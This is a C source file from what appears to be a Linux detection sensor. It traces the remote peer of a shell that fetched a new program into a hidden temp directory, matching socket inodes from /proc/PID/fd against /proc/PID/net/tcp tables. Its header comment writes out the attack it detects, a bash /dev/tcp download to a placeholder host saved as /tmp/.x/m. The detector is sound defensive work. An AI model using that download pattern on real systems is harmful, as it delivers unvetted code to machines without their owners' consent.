// SPDX-License-Identifier: GPL-2.0-only
/*
 * drop_tcp.c - the downloader that names no file: a shell that opened a
 * TCP connection itself (bash `exec 3<>/dev/tcp/HOST/PORT`, then `cat <&3
 * > /tmp/.x/m`). Used by drop_sensor.c when a fresh program in a temp or
 * hidden directory runs and no downloader's arguments name it: the shell
 * that runs it still holds a TCP socket (the /dev/tcp descriptor stays
 * open in the shell). Its peer
 * comes from /proc/PID/net/tcp{,6} (the process's own network namespace)
 * by the socket's inode.
 *
 * Cost: a readdir of /proc/PID/fd and, when a socket is there, a read of
 * two small tables; only for programs drop_sensor.c already found fresh
 * in a temp or hidden directory.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "sensors/drop.h"

#define SOCK_MAX 8

/* One hex address of /proc/net/tcp (4 or 16 bytes, in host words). */
static bool hex_addr(const char *h, size_t len, char *out, size_t n)
{
	unsigned char b[16];
	unsigned int w;
	size_t i;

	if (len != 8 && len != 32)
		return false;
	for (i = 0; i < len / 8; i++) {
		if (sscanf(h + i * 8, "%8x", &w) != 1)
			return false;
		memcpy(b + i * 4, &w, 4); /* the kernel printed a u32 */
	}
	if (len == 8)
		return inet_ntop(AF_INET, b, out, (socklen_t)n) != NULL;
	/* ::ffff:a.b.c.d as a.b.c.d, the way connect(2) was given it. */
	if (!memcmp(b, "\0\0\0\0\0\0\0\0\0\0\xff\xff", 12))
		return inet_ntop(AF_INET, b + 12, out, (socklen_t)n) != NULL;
	return inet_ntop(AF_INET6, b, out, (socklen_t)n) != NULL;
}

bool drop__tcp_line(const char *line, unsigned long ino, char *peer,
		    size_t n)
{
	char rem[64], ip[INET6_ADDRSTRLEN], *colon;
	unsigned long lino;
	unsigned int port;

	/* sl local rem st tx:rx tr:when retrnsmt uid timeout inode */
	if (sscanf(line, "%*s %*s %63s %*s %*s %*s %*s %*s %*s %lu", rem,
		   &lino) != 2 ||
	    lino != ino)
		return false;
	colon = strchr(rem, ':');
	if (!colon || sscanf(colon + 1, "%x", &port) != 1 || !port)
		return false;
	if (!hex_addr(rem, (size_t)(colon - rem), ip, sizeof(ip)))
		return false;
	snprintf(peer, n, strchr(ip, ':') ? "[%s]:%u" : "%s:%u", ip, port);
	return true;
}

static bool peer_of(uint32_t pid, unsigned long ino, char *peer, size_t n)
{
	static const char *const tables[] = {"tcp", "tcp6"};
	char path[64], line[512];
	bool found = false;
	FILE *f;
	int t;

	for (t = 0; t < 2 && !found; t++) {
		snprintf(path, sizeof(path), "/proc/%u/net/%s", pid, tables[t]);
		f = fopen(path, "re");
		if (!f)
			continue;
		while (!found && fgets(line, sizeof(line), f))
			found = drop__tcp_line(line, ino, peer, n);
		fclose(f);
	}
	return found;
}

/* Socket inodes among pid's descriptors, at most max. */
static int sockets(uint32_t pid, unsigned long *ino, int max)
{
	char dir[64], path[PATH_MAX], link[64];
	struct dirent *d;
	int n = 0;
	ssize_t l;
	DIR *dp;

	snprintf(dir, sizeof(dir), "/proc/%u/fd", pid);
	dp = opendir(dir);
	if (!dp)
		return 0;
	while (n < max && (d = readdir(dp))) {
		if (d->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, d->d_name);
		l = readlink(path, link, sizeof(link) - 1);
		if (l <= 0)
			continue;
		link[l] = '\0';
		if (sscanf(link, "socket:[%lu]", &ino[n]) == 1)
			n++;
	}
	closedir(dp);
	return n;
}

bool drop__tcp_peer(uint32_t pid, char *peer, size_t n)
{
	unsigned long ino[SOCK_MAX];
	int i, k = sockets(pid, ino, SOCK_MAX);

	for (i = 0; i < k; i++)
		if (peer_of(pid, ino[i], peer, n))
			return true;
	return false;
}
